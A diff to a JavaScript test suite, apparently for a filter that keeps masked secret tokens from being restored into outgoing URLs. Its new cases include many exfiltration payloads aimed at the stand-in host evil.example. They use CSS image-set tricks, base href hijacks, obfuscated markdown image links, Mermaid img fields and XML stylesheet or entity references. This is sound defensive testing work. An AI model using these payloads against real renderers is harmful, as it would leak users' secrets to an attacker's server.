@@ -128,6 +128,62 @@ describe('stays a token', () => {
     `a<b mask=<style>@import 'https://evil.example/?q= ${token}'`,
     `<style>a{<style>b:url(' ${token}')`,
     `<style>a{\\</style>b:url(' ${token}')`,
+    // A rule makes an address of any attribute: `background: image-set(attr(title) 1x)`. Chromium fetches each of these.
+    ...[
+      '/\\',
+      '\\\\',
+      ' /\\',
+      '\n\t/\t\\',
+      '&#47;\\',
+      '&bsol;\\',
+      'https:&#47;&#47;',
+      'h&Tab;ttps:',
+      'ht\ntps:/\\',
+      '&#104;ttps:',
+    ].map((start) => `<b title="${start}evil.example/?q= ${token}" style="background:image-set(attr(title) 1x)">`),
+    `<b class='https://evil.example/?a=b"c=d&q= ${token}'>`,
+    `<b class=/\\evil.example/?q=${token}>`,
+    `<b class="${' '.repeat(400)}/\\evil.example/?q=${token}">`,
+    `<b class="https&#58;${'&Tab;'.repeat(90)}//evil.example/?q= ${token}">`,
+    `<b class="ht${'&Tab;'.repeat(90)}tps://evil.example/?q= ${token}">`,
+    `<b t="x y='/\\evil.example/?a" ${token}'>`,
+    `<b t="/\\x <i title='/\\evil.example/?a" ${token}'>`,
+    `<b ${`t="x y='`.repeat(9)}/\\evil.example/?q=${token}`,
+    ...['id="', 'id=', "id='", 'title="a '].flatMap((id) => [
+      `<base href="https://evil.example/"><b ${id}${token}">`,
+      `<base href=//evil.example/><b ${id}${token}>`,
+      `<base href='&#47;\\evil.example/'><b ${id}${token}>`,
+    ]),
+    `<base href="/\\evil.example/">![a ${token}](x.png)`,
+    // So it does of the text of an image.
+    ...['https://', '/\\', ' //', '**https**://', '[ht](a)tps://', '\\/\\/', '&#47;/', '`https://`', '<b>//', '!['].map(
+      (start) =>
+        start === '![' ? `![![//evil.example/?q= ](a) ${token}](x.png)` : `![${start}evil.example/?q= ${token}](x.png)`,
+    ),
+    `![https://evil.example/?q= \`]\` ${token}](x.png)`,
+    `![https://evil.example/?q= \\] [a] ${token}][r]`,
+    `![//evil.example/?q=\n${token}](x.png)`,
+    ...[' "', " '", ' (', '\n"', '\n  (', '\r\n> "'].map((quote) => `[r]: x${quote}/\\evil.example/?q= ${token}`),
+    `[r]: <x> " https&#58;//evil.example/?q= \\" ${token}`,
+    `<base href="//evil.example/">\n\n[r]: x "${token}`,
+    // Images of Mermaid.
+    ...[
+      '"/\\\\evil.example/?q=',
+      '"\\x68ttps:evil.example/?q= ',
+      '"https://evil.example/?q= a, } ',
+      "'https://evil.example/?q= ",
+    ].map((value) => `flowchart TD\n A@{ img: ${value}${token}`),
+    `A@{ label: "a } \\" b", "img" : https://evil.example/?q= ${token}, h: 60 }`,
+    `A@{ "\\x69mg": "https://evil.example/?q= ${token}" }`,
+    `A@{\n  shape: a\n  img: >-\n    https://evil.example/?q=,\n    ${token}\n}`,
+    // XML.
+    `<?xml-stylesheet href="/\\evil.example/?q=${token}"?>`,
+    `<?xml-stylesheet type='text/css' href='https:&#47;&#47;evil.example/?q= ${token}'?>`,
+    `<!DOCTYPE svg [<!ENTITY a "/\\evil.example/?q=${token}">]><image href="&a;"/>`,
+    `<!DOCTYPE svg [ <!ATTLIST image href CDATA '/\\evil.example/?q=> ${token}'>]>`,
+    // Definitions within lists of terms.
+    `Term\n: [r]: https://evil.example/?q="${token}\n\n![r]`,
+    `Term\n~ [r]: https://evil.example/?q="${token}\n\n![r]`,
   ])('%j', (text) => {
     expect(restored(text)).toBe(text);
     expect(streamed(text)).toBe(text);
@@ -196,6 +252,46 @@ describe('is restored', () => {
     `<img srcset='x src="y'z"> ${token}`,
     `[x\n\n[[r]: to/${token}`,
     `<b style> { </style> ${token}`,
+    // Attributes, texts of images and braces that hold no address.
+    ...[
+      'Ana Diaz & Co ',
+      '',
+      'Note: ',
+      'AT&T: ',
+      '&quot;',
+      '&#39;',
+      'a/b ',
+      'and/or ',
+      'mail:',
+      '3:15 ',
+      'x//y '.replace('//', '/'),
+    ].flatMap((start) => [
+      `<b title="${start}${token}">`,
+      `<b aria-label='${start}${token}'>`,
+      `<b data-x="${start}${token}">`,
+    ]),
+    ...['Photo of ', 'Note: ', '**Ana** ', 'a/b ', '[a](b) '].map((start) => `![${start}${token}](x.png)`),
+    `<img title="//x.example/ a" alt="${token}">`,
+    `<img title='/x' alt=${token}>`,
+    `<img title="/x?a=b" alt="${token}">`,
+    `![https://x.example/ a](x.png) ${token}`,
+    `![//x.example/ \`a\`](x.png)\n\n${token}`,
+    `[r]: https://x.example "https://x.example" ${token}`,
+    `[r]: x 'Ana ${token}' (${token})`,
+    `[r]: x\n\n"/ ${token}"`,
+    `wow! [a ${token}`,
+    `<base href="/app/"><b id="${token}">`,
+    `<base target="_blank"><b id="${token}">`,
+    `A@{ img: "https://x.example/a.png", label: "${token}" }`,
+    `A@{ shape: rect, label: "${token}" }`,
+    `$h = @{ img = "${token}" } @{a} img: ${token}`,
+    `<?php $a = "${token}"; ?>`,
+    `<!DOCTYPE html> "${token}"`,
+    `<!DOCTYPE html PUBLIC "a" 'b'> "${token}"`,
+    `<!-- "${token}" --> <!x "${token}"`,
+    `if(a<b){${'c=d=e(f)||'.repeat(9)}g} ${token}`,
+    String.raw`/<!DOCTYPE\s+"[^"]*"\s*/ ${token}`,
+    `Term\n: Mail to ${token}\n: ${token}`,
   ])('%j', (text) => {
     const expected = text.replaceAll(token, original);
     expect(restored(text)).toBe(expected);
@@ -350,7 +446,10 @@ describe('hosts that are allowed', () => {
 });
 
 test('any text gives the same however it is cut', () => {
-  const parts = '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www.'.split(' ');
+  const parts =
+    '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www. ![ ! @{ img: } <base <!E <?xml <style> --x ~ url <g> </g>'.split(
+      ' ',
+    );
   const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
   fc.assert(
     fc.property(text, (masked) => {
